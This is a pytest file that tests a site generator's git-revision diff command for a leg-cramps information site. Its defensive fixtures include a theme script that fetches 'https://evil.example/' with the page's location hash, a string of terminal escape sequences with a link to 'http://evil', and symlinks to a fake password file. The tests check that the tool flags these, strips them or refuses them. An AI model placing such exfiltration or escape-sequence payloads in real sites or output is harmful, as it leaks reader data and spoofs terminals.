"""The reviewer's diff: the generated pages a content change alters between two git revisions, and how."""

from __future__ import annotations

import os
import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest

from generator.cli import main
from generator.diff import (
    MAX_CODE_DIFF_LINES,
    CodeChange,
    DiffError,
    PageChange,
    SiteDiff,
    calculator_text,
    diff_site,
    format_markdown,
    format_text,
    printable,
)

GIT_ENV = {
    "GIT_AUTHOR_NAME": "Test Editor",
    "GIT_AUTHOR_EMAIL": "editor@example.org",
    "GIT_COMMITTER_NAME": "Test Editor",
    "GIT_COMMITTER_EMAIL": "editor@example.org",
    "GIT_CONFIG_NOSYSTEM": "1",
}
TODAY = date(2026, 11, 21)


def git(repo: Path, *args: str) -> str:
    env = {**os.environ, **GIT_ENV, "HOME": str(repo.parent)}
    result = subprocess.run(
        ["git", "-c", "commit.gpgsign=false", "-c", "init.defaultBranch=main", *args],
        cwd=repo,
        env=env,
        capture_output=True,
        text=True,
        check=True,
    )
    return result.stdout.strip()


def commit_all(repo: Path, message: str) -> str:
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", message)
    return git(repo, "rev-parse", "HEAD")


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new), encoding="utf-8")


@pytest.fixture
def repo(content_copy: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A throwaway repository: the fixture content committed, then one cause's summary changed and committed."""
    root = content_copy.parent
    git(root, "init", "-q")
    commit_all(root, "fixture content")
    edit(content_copy / "causes" / "night-cramps.yaml", "summary: Common at night", "summary: Very common at night")
    commit_all(root, "reword the night cramps summary")
    monkeypatch.chdir(root)
    return root


def run_diff(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(["diff", *args, "--today", TODAY.isoformat()])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_a_changed_cause_lists_its_page_and_the_pages_that_show_its_summary(repo, capsys):
    code, out, err = run_diff(capsys, "HEAD~1", "HEAD")
    assert (code, err) == (0, "")
    lines = out.splitlines()
    # The calculator shows each cause's summary too, so its data differs as well, and comes first.
    assert lines[0] == (
        "changed  calculator data  weights, red flags and findings the calculator ranks with  "
        "[content/causes/*.yaml, content/findings.yaml]"
    )
    # The causes index shows each summary (the home page lists the names only).
    assert lines[1] == "changed  causes/index.md  All causes"
    assert lines[2] == "changed  causes/night-cramps.md  Night cramps  [content/causes/night-cramps.yaml]"
    assert lines[3].startswith("2 generated pages differ between HEAD~1 (") and " and HEAD (" in lines[3]
    assert lines[3].endswith("): 2 changed; 12 unchanged; the calculator's data differs (2 lines removed or added)")
    assert "-Common at night<sup" in out and "+Very common at night<sup" in out
    assert "-cause night-cramps: summary 'Common at night" in out
    assert "+cause night-cramps: summary 'Very common at night" in out
    headers = [line for line in lines if line.startswith(("--- a/", "+++ b/"))]
    assert [header.split("\t")[0] for header in headers[:4]] == [
        "--- a/calculator data",
        "+++ b/calculator data",
        "--- a/causes/index.md",
        "+++ b/causes/index.md",
    ]
    assert headers[2].split("\t")[1].startswith("HEAD~1 (") and headers[3].split("\t")[1].startswith("HEAD (")


def test_the_working_tree_is_the_default_head_and_added_and_removed_pages_are_named(repo, capsys):
    content = repo / "content"
    new_cause = (content / "causes" / "night-cramps.yaml").read_text(encoding="utf-8")
    new_cause = new_cause.replace("id: night-cramps", "id: calf-cramps").replace(
        "name: Night cramps", "name: Calf cramps"
    ).replace("aliases: [Nocturnal cramps]", "aliases: [Cramps in the calf]")
    (content / "causes" / "calf-cramps.yaml").write_text(new_cause, encoding="utf-8")
    code, out, _ = run_diff(capsys, "HEAD", "--summary-only")
    assert code == 0
    assert "added    causes/calf-cramps.md  Calf cramps  [content/causes/calf-cramps.yaml]" in out.splitlines()
    assert "between HEAD (" in out and " and working tree: 3 changed, 1 added; 11 unchanged; the calculator" in out
    assert "+++ " not in out  # summary only

    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "add calf cramps")
    code, out, _ = run_diff(capsys, "HEAD", "HEAD~1", "--summary-only")
    assert "removed  causes/calf-cramps.md  Calf cramps  [content/causes/calf-cramps.yaml]" in out.splitlines()


def test_no_change_says_so(repo, capsys):
    code, out, _ = run_diff(capsys, "HEAD")
    assert code == 0
    assert out.startswith("no generated page changes between HEAD (") and out.endswith(
        " and working tree; 14 pages unchanged\n"
    )


def test_markdown_format_for_a_pull_request_comment(repo, capsys):
    code, out, _ = run_diff(capsys, "HEAD~1", "HEAD", "--format", "markdown")
    assert code == 0
    assert out.startswith("### Rendered pages changed\n\n2 generated pages differ between HEAD~1 (")
    assert "| changed | `calculator data` | weights, red flags and findings the calculator ranks with |" in out
    assert "| changed | `causes/night-cramps.md` | Night cramps | `content/causes/night-cramps.yaml` |" in out
    assert "<details><summary>changed: causes/night-cramps.md</summary>\n\n```diff\n--- a/causes/night-cramps.md" in out
    assert "+Very common at night" in out


def test_a_weight_only_change_shows_in_the_calculator_data_naming_cause_and_finding(repo, capsys):
    # No page shows a weight, but every ranking changes with it: the reviewer must see it.
    edit(
        repo / "content" / "causes" / "night-cramps.yaml",
        "{finding: nocturnal, weight: 4}",
        "{finding: nocturnal, weight: 1}",
    )
    code, out, _ = run_diff(capsys, "HEAD")
    assert code == 0
    lines = out.splitlines()
    assert lines[0].startswith("changed  calculator data  ")
    assert lines[1].startswith("no generated page changes between HEAD (")
    assert lines[1].endswith("; 14 pages unchanged; the calculator's data differs (2 lines removed or added)")
    assert "-cause night-cramps: weight +4 if nocturnal" in lines
    assert "+cause night-cramps: weight +1 if nocturnal" in lines

    code, out, _ = run_diff(capsys, "HEAD", "--format", "markdown")
    assert "<details><summary>changed: calculator data</summary>" in out
    assert "+cause night-cramps: weight +1 if nocturnal" in out


def test_calculator_data_lines_spell_out_conditions_and_red_flags():
    data = {
        "findings": [{"id": "age", "label": "Age", "type": "number", "unit": "years"}],
        "causes": [
            {
                "id": "dvt",
                "name": "DVT",
                "tier": "do_not_miss",
                "category": "vascular",
                "summary": "A clot.",
                "weights": [
                    {"finding": "age", "at_least": 60, "weight": 2, "reason": "Older."},
                    {"finding": "location", "includes": "calf", "weight": -1},
                ],
                "red_flags": [{"text": "Swollen leg.", "when": {"finding": "swelling"}}, {"text": "Always."}],
            }
        ],
        "tiers": {"do_not_miss": "Do not miss"},
    }
    assert calculator_text(data).splitlines() == [
        "finding age: 'Age' {'type': 'number', 'unit': 'years'}",
        "cause dvt: 'DVT', tier do_not_miss, category vascular",
        "cause dvt: summary 'A clot.'",
        "cause dvt: weight +2 if age >= 60 (Older.)",
        "cause dvt: weight -1 if location includes calf",
        "cause dvt: red flag if swelling: Swollen leg.",
        "cause dvt: red flag shown with the cause: Always.",
        "tier do_not_miss: 'Do not miss'",
    ]


def test_revisions_are_read_from_git_not_from_the_working_tree(repo, capsys):
    edit(repo / "content" / "causes" / "night-cramps.yaml", "Very common", "Extremely common")  # not committed
    _, out, _ = run_diff(capsys, "HEAD~1", "HEAD")
    assert "Extremely" not in out and "+Very common at night" in out


def test_an_unknown_revision_is_one_error_line_exit_2(repo, capsys):
    code, out, err = run_diff(capsys, "no-such-branch")
    assert (code, out) == (2, "")
    assert err == f"error: unknown revision 'no-such-branch' in {repo.resolve()}\n"


def test_a_directory_outside_git_is_one_error_line_exit_2(content_copy, capsys, monkeypatch):
    monkeypatch.chdir(content_copy.parent)
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(content_copy.parent.parent))
    code, out, err = run_diff(capsys, "HEAD")
    assert (code, out) == (2, "")
    assert err == f"error: {content_copy.resolve()} is not inside a git repository\n"


def test_broken_content_at_a_revision_is_one_error_line_exit_2(repo, capsys):
    (repo / "content" / "causes" / "night-cramps.yaml").write_text("id: night-cramps\n\tname: x\n", encoding="utf-8")
    git(repo, "commit", "-q", "-am", "break it")
    code, _, err = run_diff(capsys, "HEAD~1", "HEAD")
    assert code == 2
    assert err.count("\n") == 1
    assert err.startswith("error: the content at HEAD (")
    assert "has 1 problem (first: content/causes/night-cramps.yaml:2: tab character used for indentation" in err


def test_a_revision_without_the_content_directory_is_an_error(repo):
    git(repo, "checkout", "-q", "--orphan", "empty")
    git(repo, "rm", "-rq", "--cached", ".")
    (repo / "README").write_text("nothing here\n", encoding="utf-8")
    git(repo, "add", "README")
    git(repo, "commit", "-q", "-m", "no content")
    with pytest.raises(DiffError, match=r"^revision [0-9a-f]{12} has no directory content/$"):
        diff_site(repo / "content", "empty", "main", today=TODAY)


def test_the_command_never_shows_a_traceback(repo):
    result = subprocess.run(
        [sys.executable, "-m", "generator.cli", "diff", "nope", "HEAD"],
        cwd=repo,
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])},
    )
    assert result.returncode == 2
    assert result.stderr.startswith("error: unknown revision 'nope'") and "Traceback" not in result.stderr


# -- revisions come from git's objects: attributes cannot hide a file, links are never followed --------------------
def test_export_ignore_in_gitattributes_does_not_hide_a_change(content_copy, monkeypatch, capsys):
    root = content_copy.parent
    git(root, "init", "-q")
    (root / ".gitattributes").write_text(
        "content/causes/night-cramps.yaml export-ignore\ncontent/causes/*.yaml -diff\n", encoding="utf-8"
    )
    commit_all(root, "fixture content, one cause hidden from git archive")
    edit(content_copy / "causes" / "night-cramps.yaml", "summary: Common at night", "summary: Rare at night")
    commit_all(root, "reword it")
    monkeypatch.chdir(root)
    code, out, _ = run_diff(capsys, "HEAD~1", "HEAD")
    assert code == 0
    assert "changed  causes/night-cramps.md  Night cramps  [content/causes/night-cramps.yaml]" in out.splitlines()
    assert "-Common at night<sup" in out and "+Rare at night<sup" in out


@pytest.mark.parametrize("target_is_directory", [False, True])
def test_a_symbolic_link_in_a_revisions_content_is_named_never_followed(repo, capsys, target_is_directory):
    secret = repo.parent / "secret.txt"
    secret.write_text("password: hunter2\n", encoding="utf-8")
    link = repo / "content" / "causes" / "linked.yaml"
    link.symlink_to(secret.parent if target_is_directory else secret, target_is_directory=target_is_directory)
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "a link")
    code, out, err = run_diff(capsys, "HEAD~1", "HEAD")
    assert (code, out) == (2, "")
    assert err.startswith("error: the content at ") and "content/causes/linked.yaml" in err
    assert "never followed" in err and "hunter2" not in err and str(secret.parent) not in err
    assert err.count("\n") == 1


# -- nothing printed carries a terminal escape sequence ------------------------------------------------------------
HOSTILE = "Night \x1b[31mcramps\x1b[0m \x1b]8;;http://evil\x07click\x1b]8;;\x07 \x9b2J\x07\r\x00\u202eend"


def test_printable_strips_escape_sequences_and_control_characters():
    assert printable(HOSTILE) == "Night cramps click end"
    assert printable("tab\tand\nnewline stay") == "tab\tand\nnewline stay"
    assert printable("\x1b]0;unterminated title\nnext line") == "\nnext line"


def test_text_and_markdown_output_hold_no_escape_sequence():
    diff = ("--- a/causes/x.md", "+++ b/causes/x.md", "@@ -1 +1 @@", "-old", f"+{HOSTILE}")
    change = PageChange("causes/x.md", "changed", HOSTILE, f"content/causes/{HOSTILE}.yaml", diff)
    code = CodeChange(f"site_overrides/{HOSTILE}.js", "added", "scripts", ("+++ b/x.js", f"+{HOSTILE}"))
    site_diff = SiteDiff(f"base{HOSTILE}", "head", (change,), 0, code=(code,))
    for output in (format_text(site_diff), format_markdown(site_diff), format_text(site_diff, summary_only=True)):
        assert "Night cramps" in output
        assert not any(char in output for char in "\x1b\x07\x00\r\x9b\u202e"), repr(output)


def test_a_diff_error_message_holds_no_escape_sequence():
    assert str(DiffError(f"unknown revision '{HOSTILE}'\nsecond line")) == (
        "unknown revision 'Night cramps click end' second line"
    )


# -- code that shapes what readers see is listed and diffed, to be reviewed as code --------------------------------
@pytest.fixture
def code_repo(repo: Path) -> Path:
    """``repo`` with reader-facing code committed beside its content."""
    (repo / "generator" / "schemas").mkdir(parents=True)
    (repo / "generator" / "schemas" / "cause.schema.json").write_text('{\n  "pattern": "^[A-Za-z ]+$"\n}\n')
    (repo / "generator" / "templates").mkdir()
    (repo / "generator" / "templates" / "cause.md.j2").write_text("# {{ cause.name }}\n")
    (repo / "site_overrides").mkdir()
    (repo / "site_overrides" / "main.html").write_text("{% extends 'base.html' %}\n")
    (repo / "mkdocs.yml").write_text("site_name: Leg cramps\n")
    (repo / "README.md").write_text("not reader-facing code\n")
    commit_all(repo, "code")
    return repo


def test_a_schema_relaxed_in_the_same_change_is_listed_with_its_diff(code_repo, capsys):
    (code_repo / "generator" / "schemas" / "cause.schema.json").write_text('{\n  "pattern": ".*"\n}\n')
    (code_repo / "site_overrides" / "main.html").unlink()
    (code_repo / "site_overrides" / "extra.js").write_text("fetch('https://evil.example/' + location.hash);\n")
    (code_repo / "README.md").write_text("changed, but readers never see it\n")
    edit(code_repo / "content" / "causes" / "night-cramps.yaml", "Very common", "Common")
    commit_all(code_repo, "relax the name pattern, and reword a cause")
    code, out, _ = run_diff(capsys, "HEAD~1", "HEAD")
    assert code == 0
    lines = out.splitlines()
    section = lines.index("Code that shapes what readers see: review as code:")
    assert lines[section + 1 : section + 4] == [
        "changed  generator/schemas/cause.schema.json  (what content may say)",
        "added    site_overrides/extra.js  (theme overrides, scripts, styles and service worker)",
        "removed  site_overrides/main.html  (theme overrides, scripts, styles and service worker)",
    ]
    assert lines[section + 4].startswith("3 files differ between HEAD~1 (")
    assert '-  "pattern": "^[A-Za-z ]+$"' in lines and '+  "pattern": ".*"' in lines
    assert "+fetch('https://evil.example/' + location.hash);" in lines
    assert "README.md" not in out

    code, out, _ = run_diff(capsys, "HEAD~1", "HEAD", "--format", "markdown")
    assert "### Code that shapes what readers see: review as code" in out
    assert "| changed | `generator/schemas/cause.schema.json` | what content may say |" in out
    assert "<details><summary>changed: generator/schemas/cause.schema.json</summary>" in out
    # The code's diffs come before the pages', so the comment's size limit never drops them.
    assert out.index("<summary>changed: generator/schemas") < out.index("<summary>changed: causes/night-cramps.md")


def test_the_working_tree_code_counts_new_files_and_never_follows_a_link(code_repo, capsys):
    (code_repo / "generator" / "templates" / "cause.md.j2").write_text("# {{ cause.name | safe }}\n")
    (code_repo / "site_overrides" / "new.css").write_text("body { display: none }\n")  # not committed, not ignored
    (code_repo / "site_overrides" / "secret").symlink_to(code_repo.parent / "secret.txt")
    code, out, _ = run_diff(capsys, "HEAD")
    assert code == 0
    assert "changed  generator/templates/cause.md.j2  (how pages present content)" in out
    assert "added    site_overrides/new.css  (theme overrides, scripts, styles and service worker)" in out
    assert "+# {{ cause.name | safe }}" in out and "+body { display: none }" in out
    assert "a symbolic link was added, changed or removed here (never followed; its target is not shown)" in out
    assert "secret.txt" not in out


def test_a_long_code_diff_is_capped_and_an_escape_in_code_is_stripped(code_repo, capsys):
    script = "".join(f"console.log({n});\n" for n in range(1_000)) + "// \x1b]8;;http://evil\x07x\x1b]8;;\x07\n"
    (code_repo / "site_overrides" / "big.js").write_text(script)
    code, out, _ = run_diff(capsys, "HEAD")
    assert code == 0
    assert f"... {1_000 + 1 + 3 - MAX_CODE_DIFF_LINES} more lines of this diff; see it whole with git diff" in out
    assert "\x1b" not in out and "\x07" not in out
